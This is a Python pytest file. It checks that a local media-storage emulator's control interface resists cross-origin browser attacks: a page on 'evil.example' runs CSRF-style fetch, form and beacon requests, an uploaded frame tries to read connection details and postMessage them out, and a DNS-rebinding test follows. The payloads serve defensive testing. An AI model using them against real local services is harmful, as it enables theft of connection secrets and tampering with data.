"""A real browser shows a page of another site, which tries everything that a page can try on the emulator."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from airflow_provider_mediax.emulator.process import MediaxEmulator
from tests.unit.emulator.helpers import PATIENCE, wait_for
from tests.unit.emulator.test_control import send

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

pytestmark = [
    pytest.mark.full,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium; `make browser` installs it"),
]

# Each attempt ends in what the page has learned by it. "sent" says that there is an answer that it may not read.
PAGE = """<!DOCTYPE html><title>evil</title><body><script>
const emulator = "%s";
const control = emulator + "/_emulator/";
const read = (path, options) => fetch(path, options).then(answer => answer.type == "opaque" ? "sent" : answer.text());
const blind = (path, method, type, body) =>
    read(path, {method, mode: "no-cors", credentials: "include", headers: {"Content-Type": type}, body});
const loaded = (kind, change) => new Promise(resolve => {
    const element = document.createElement(kind);
    element.onload = () => resolve("sent");
    element.onerror = () => resolve("refused");
    change(element);
    document.body.append(element);
});
const posted = (path, encoding, name, value) => new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + Math.random();
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: path, target: frame.name, enctype: encoding});
    const input = document.createElement("input");
    Object.assign(input, {name, value});
    form.append(input);
    document.body.append(form);
    frame.onload = () => resolve("sent");
    form.submit();
});
let heard = null;
window.onmessage = event => { heard = event.data; };
const fault = '{"action": "*", "kind": "500"}';
const register = JSON.stringify({action: "Register", registerRequest: {operateUin: "1", userName: "evil",
    cosConfig: {secretId: "i", secretKey: "k", bucket: "b-1", region: "r"}}});
const attempts = {
    "an uploaded page in a frame": () =>
        loaded("iframe", it => { it.src = control + "objects/page.html"; }),
    "read the connection": () => read(control + "connection"),
    "read the connection, blindly": () => read(control + "connection", {mode: "no-cors"}),
    "read the ledger": () => read(control + "ledger"),
    "read an object": () => read(control + "objects/a"),
    "reset as text": () => blind(control + "reset", "POST", "text/plain", "{}"),
    "reset without a body": () => read(control + "reset", {method: "POST", mode: "no-cors"}),
    "reset as JSON": () => read(control + "reset", {method: "POST", headers: {"Content-Type": "application/json"}}),
    "reset by a beacon": () => String(navigator.sendBeacon(control + "reset", new Blob(["{}"], {type: "text/plain"}))),
    "a fault as text": () => blind(control + "faults", "POST", "text/plain", fault),
    "a fault by a form": () => posted(control + "faults", "text/plain", '{"action": "*", "kind": "500", "x": "', '"}'),
    "a reset by a form": () => posted(control + "reset", "application/x-www-form-urlencoded", "a", "b"),
    "an upload": () => read(control + "objects/b", {method: "PUT", body: "<script>"}),
    "a deletion": () => read(control + "objects/a", {method: "DELETE"}),
    "an account": () => blind(emulator + "/register", "POST", "text/plain", register),
    "the connection as a script": () => loaded("script", it => { it.src = control + "connection"; }),
};
(async () => {
    const learned = {};
    for (const [name, attempt] of Object.entries(attempts)) {
        const nothing = new Promise(resolve => setTimeout(resolve, 20000, "nothing happened"));
        try { learned[name] = await Promise.race([attempt(), nothing]); } catch (error) { learned[name] = "refused"; }
    }
    learned["said by the uploaded page"] = heard;
    await fetch("/report", {method: "POST", body: JSON.stringify(learned)});
})();
</script>"""

# With the origin of the control interface this page would read it, and hand on what it has read.
UPLOAD = b"""<!DOCTYPE html><script>
const request = new XMLHttpRequest();
request.open("GET", "/_emulator/connection", false);
request.send();
parent.postMessage(request.responseText, "*");
</script>"""

REFUSED = {
    "read the connection": "refused",
    "read the connection, blindly": "sent",
    "read the ledger": "refused",
    "read an object": "refused",
    "reset as text": "sent",
    "reset without a body": "sent",
    "reset as JSON": "refused",
    "reset by a beacon": "true",
    "a fault as text": "sent",
    "a fault by a form": "sent",
    "a reset by a form": "sent",
    "an upload": "refused",
    "a deletion": "refused",
    "an account": "sent",
    "the connection as a script": "refused",
    "an uploaded page in a frame": "sent",
    "said by the uploaded page": None,
}


class Site(ThreadingHTTPServer):
    """A site that serves one page, and hears from it what it has learned."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page = b""
        self.learned: list[dict[str, Any]] = []


class _Handler(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        self._answer(self.server.page)

    def do_POST(self) -> None:
        self.server.learned.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def site() -> Iterator[Site]:
    with Site() as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def command(profile: Path, *options: str) -> list[str]:
    assert CHROMIUM is not None
    common = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run")
    # Names that do not exist elsewhere lead to this machine, as those of an attacker may.
    rules = "--host-resolver-rules=MAP *.example 127.0.0.1"
    return [CHROMIUM, *common, rules, f"--user-data-dir={profile}", *options]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.example"])
def test_a_page_of_another_origin_reads_nothing_and_changes_nothing(
    mediax_emulator: MediaxEmulator, site: Site, tmp_path: Path, host: str
) -> None:
    mediax_emulator.put_object("a", b"content")
    html = {"Content-Type": "text/html"}
    assert send(mediax_emulator.url, "PUT", "/_emulator/objects/page.html", html, UPLOAD).status == 200
    site.page = (PAGE % mediax_emulator.url).encode()
    address = f"http://{host}:{site.server_port}/"
    with subprocess.Popen(
        command(tmp_path, "--remote-debugging-port=0", address), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ) as browser:
        try:
            wait_for(lambda: site.learned or browser.poll() is not None)
        finally:
            browser.terminate()
    assert site.learned == [REFUSED]
    assert mediax_emulator.object_keys() == ["a", "page.html"]
    assert mediax_emulator.ledger()["requests"] == []
    assert send(mediax_emulator.url, "POST", "/job", {}).status == 401  # no fault hits it


def test_a_name_that_points_to_the_emulator_does_not_open_it(mediax_emulator: MediaxEmulator, tmp_path: Path) -> None:
    address = f"http://rebound.example:{urlsplit(mediax_emulator.url).port}/_emulator/connection"
    done = subprocess.run(
        command(tmp_path, "--dump-dom", address), capture_output=True, text=True, timeout=PATIENCE, check=True
    )
    assert "Host must be" in done.stdout
    assert "emu-" not in done.stdout
